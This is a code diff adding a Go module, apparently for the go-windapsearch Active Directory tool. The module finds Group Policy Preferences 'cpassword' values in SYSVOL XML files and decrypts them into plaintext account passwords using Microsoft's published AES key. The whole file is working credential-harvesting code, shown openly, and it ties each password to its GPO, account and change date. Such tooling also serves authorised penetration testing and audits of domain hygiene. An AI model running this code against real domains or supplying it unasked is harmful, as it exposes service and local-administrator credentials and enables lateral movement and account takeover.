@@ -0,0 +1,264 @@
+package modules
+
+import (
+	"crypto/aes"
+	"crypto/cipher"
+	"encoding/base64"
+	"encoding/xml"
+	"fmt"
+	"io"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"strings"
+	"unicode/utf16"
+
+	"github.com/go-ldap/ldap/v3"
+	"github.com/ropnop/go-windapsearch/pkg/adschema"
+	"github.com/ropnop/go-windapsearch/pkg/ldapsession"
+	"github.com/ropnop/go-windapsearch/pkg/redact"
+	"github.com/spf13/pflag"
+)
+
+type GPPPasswordsModule struct {
+	Sysvol string
+}
+
+func init() {
+	AllModules = append(AllModules, new(GPPPasswordsModule))
+	adschema.RegisterAttribute("file", "String(Unicode)", true)
+	adschema.RegisterAttribute("account", "String(Unicode)", true)
+	adschema.RegisterAttribute("changed", "String(Unicode)", true)
+}
+
+// gppKey is the AES key every Group Policy Preferences cpassword is encrypted with, which Microsoft published in
+// MS-GPPREF 2.2.1.1.4
+var gppKey = []byte{
+	0x4e, 0x99, 0x06, 0xe8, 0xfc, 0xb6, 0x6c, 0xc9, 0xfa, 0xf4, 0x93, 0x10, 0x62, 0x0f, 0xfe, 0xe8,
+	0xf4, 0x96, 0xe8, 0x06, 0xcc, 0x05, 0x79, 0x90, 0x20, 0x9b, 0x09, 0xa4, 0x33, 0xb6, 0x6c, 0x1b,
+}
+
+// gppAccountAttrs are the XML attributes the account a cpassword belongs to is named in, depending on the preference
+// (local users use userName and newName, services and scheduled tasks accountName or runAs, drives and data sources
+// userName)
+var gppAccountAttrs = []string{"newName", "userName", "accountName", "runAs", "username"}
+
+func (g *GPPPasswordsModule) Name() string {
+	return "gpp-passwords"
+}
+
+func (g *GPPPasswordsModule) Description() string {
+	return "Find and decrypt Group Policy Preferences passwords (cpassword) in the SYSVOL files of every GPO"
+}
+
+func (g *GPPPasswordsModule) FlagSet() *pflag.FlagSet {
+	flags := pflag.NewFlagSet(g.Name(), pflag.ExitOnError)
+	flags.StringVar(&g.Sysvol, "sysvol", "", "Path to the SYSVOL share: a mounted copy (e.g. /mnt/sysvol) or, on Windows, a UNC path (e.g. \\\\dc01\\SYSVOL)")
+	return flags
+}
+
+func (g *GPPPasswordsModule) DefaultAttrs() []string {
+	return []string{"displayName", "file", "account", "password", "changed"}
+}
+
+func (g *GPPPasswordsModule) IsReportModule() bool {
+	return true
+}
+
+func (g *GPPPasswordsModule) Run(session *ldapsession.LDAPSession, attrs []string) error {
+	if g.Sysvol == "" {
+		return fmt.Errorf("--sysvol is required: mount the SYSVOL share (e.g. mount -t cifs //dc01/SYSVOL /mnt/sysvol) and give its path")
+	}
+	if _, err := os.Stat(g.Sysvol); err != nil {
+		return fmt.Errorf("unable to read SYSVOL: %s", err)
+	}
+	sr := session.MakeSimpleSearchRequest("(objectClass=groupPolicyContainer)", []string{"cn", "displayName", "gPCFileSysPath"})
+	res, err := session.GetPagedSearchResults(sr)
+	if err != nil {
+		return err
+	}
+
+	domain := ldapsession.DNToDomain(session.NamingContexts.Default)
+	var entries []*ldap.Entry
+	for _, gpo := range res.Entries {
+		dir := gpoSysvolDir(g.Sysvol, domain, gpo)
+		if dir == "" {
+			session.Log.Infof("no SYSVOL folder found for GPO %s", gpo.DN)
+			continue
+		}
+		err := filepath.Walk(dir, func(path string, info os.FileInfo, err error) error {
+			if err != nil {
+				session.Log.Warnf("unable to read %s: %s", path, err)
+				return nil
+			}
+			if info.IsDir() || !strings.EqualFold(filepath.Ext(path), ".xml") {
+				return nil
+			}
+			findings, err := scanGPPFile(path)
+			if err != nil {
+				session.Log.Warnf("unable to parse %s: %s", path, err)
+				return nil
+			}
+			rel, _ := filepath.Rel(dir, path)
+			for _, f := range findings {
+				entries = append(entries, ldap.NewEntry(gpo.DN, map[string][]string{
+					"displayName": {gpo.GetAttributeValue("displayName")},
+					"file":        {filepath.ToSlash(rel)},
+					"account":     {f.account},
+					"password":    {f.password},
+					"changed":     {f.changed},
+				}))
+			}
+			return nil
+		})
+		if err != nil {
+			session.Log.Warnf("unable to scan %s: %s", dir, err)
+		}
+	}
+	session.ManualWriteSearchResultsToChan(&ldap.SearchResult{Entries: filterEntryAttributes(entries, attrs)})
+	return nil
+}
+
+// gpoSysvolDir finds the GPO's folder under the SYSVOL path. The path can be the SYSVOL share itself
+// (<domain>\Policies\{GUID}), the domain folder in it (Policies\{GUID}), or the Policies folder ({GUID}). Names are
+// matched without case, since a copy of SYSVOL on a case sensitive filesystem may not keep Windows' casing
+func gpoSysvolDir(sysvol, domain string, gpo *ldap.Entry) string {
+	guid := gpo.GetAttributeValue("cn")
+	if guid == "" {
+		// cn is the GUID, which is also the last part of gPCFileSysPath
+		parts := strings.Split(gpo.GetAttributeValue("gPCFileSysPath"), `\`)
+		guid = parts[len(parts)-1]
+	}
+	for _, rel := range [][]string{{domain, "Policies", guid}, {"Policies", guid}, {guid}} {
+		if dir, ok := findFold(sysvol, rel); ok {
+			return dir
+		}
+	}
+	return ""
+}
+
+// findFold joins each name in rel to dir, matching names without case
+func findFold(dir string, rel []string) (string, bool) {
+	for _, name := range rel {
+		exact := filepath.Join(dir, name)
+		if info, err := os.Stat(exact); err == nil && info.IsDir() {
+			dir = exact
+			continue
+		}
+		infos, err := ioutil.ReadDir(dir)
+		if err != nil {
+			return "", false
+		}
+		found := false
+		for _, info := range infos {
+			if info.IsDir() && strings.EqualFold(info.Name(), name) {
+				dir, found = filepath.Join(dir, info.Name()), true
+				break
+			}
+		}
+		if !found {
+			return "", false
+		}
+	}
+	return dir, true
+}
+
+// gppFinding is a cpassword found in a preferences file
+type gppFinding struct {
+	account, password, changed string
+}
+
+// scanGPPFile finds every element with a cpassword in a preferences XML file (Groups.xml, Services.xml,
+// ScheduledTasks.xml, DataSources.xml, Drives.xml, Printers.xml), decrypting it. The account comes from the element
+// itself, and changed from the nearest enclosing element with one (the preference item)
+func scanGPPFile(path string) ([]gppFinding, error) {
+	f, err := os.Open(path)
+	if err != nil {
+		return nil, err
+	}
+	defer f.Close()
+
+	var findings []gppFinding
+	var changed []string
+	d := xml.NewDecoder(f)
+	// preference files declare utf-8 but are sometimes saved as something else, which only matters for names
+	d.CharsetReader = func(charset string, input io.Reader) (io.Reader, error) { return input, nil }
+	for {
+		tok, err := d.Token()
+		if err == io.EOF {
+			return findings, nil
+		}
+		if err != nil {
+			return findings, err
+		}
+		switch t := tok.(type) {
+		case xml.StartElement:
+			values := make(map[string]string)
+			for _, a := range t.Attr {
+				values[a.Name.Local] = a.Value
+			}
+			when := values["changed"]
+			if when == "" && len(changed) > 0 {
+				when = changed[len(changed)-1]
+			}
+			changed = append(changed, when)
+			cpassword := values["cpassword"]
+			if cpassword == "" {
+				continue
+			}
+			finding := gppFinding{changed: when}
+			for _, name := range gppAccountAttrs {
+				if values[name] != "" {
+					finding.account = values[name]
+					break
+				}
+			}
+			if finding.password, err = decryptGPPPassword(cpassword); err != nil {
+				finding.password = fmt.Sprintf("(unable to decrypt %q: %s)", cpassword, err)
+			} else {
+				redact.Add(finding.password, cpassword)
+			}
+			findings = append(findings, finding)
+		case xml.EndElement:
+			if len(changed) > 0 {
+				changed = changed[:len(changed)-1]
+			}
+		}
+	}
+}
+
+// decryptGPPPassword decrypts a Group Policy Preferences cpassword: base64 (with the padding left off) of the UTF-16LE
+// password, AES-256-CBC encrypted with a published key and an IV of zeros
+func decryptGPPPassword(cpassword string) (string, error) {
+	if pad := len(cpassword) % 4; pad != 0 {
+		cpassword += strings.Repeat("=", 4-pad)
+	}
+	ciphertext, err := base64.StdEncoding.DecodeString(cpassword)
+	if err != nil {
+		return "", err
+	}
+	if len(ciphertext) == 0 || len(ciphertext)%aes.BlockSize != 0 {
+		return "", fmt.Errorf("ciphertext is not a whole number of blocks")
+	}
+	block, err := aes.NewCipher(gppKey)
+	if err != nil {
+		return "", err
+	}
+	plaintext := make([]byte, len(ciphertext))
+	cipher.NewCBCDecrypter(block, make([]byte, aes.BlockSize)).CryptBlocks(plaintext, ciphertext)
+
+	// PKCS#7 padding
+	pad := int(plaintext[len(plaintext)-1])
+	if pad == 0 || pad > aes.BlockSize || pad > len(plaintext) {
+		return "", fmt.Errorf("bad padding")
+	}
+	plaintext = plaintext[:len(plaintext)-pad]
+	if len(plaintext)%2 != 0 {
+		return "", fmt.Errorf("plaintext is not UTF-16")
+	}
+	u := make([]uint16, len(plaintext)/2)
+	for i := range u {
+		u[i] = uint16(plaintext[2*i]) | uint16(plaintext[2*i+1])<<8
+	}
+	return string(utf16.Decode(u)), nil
+}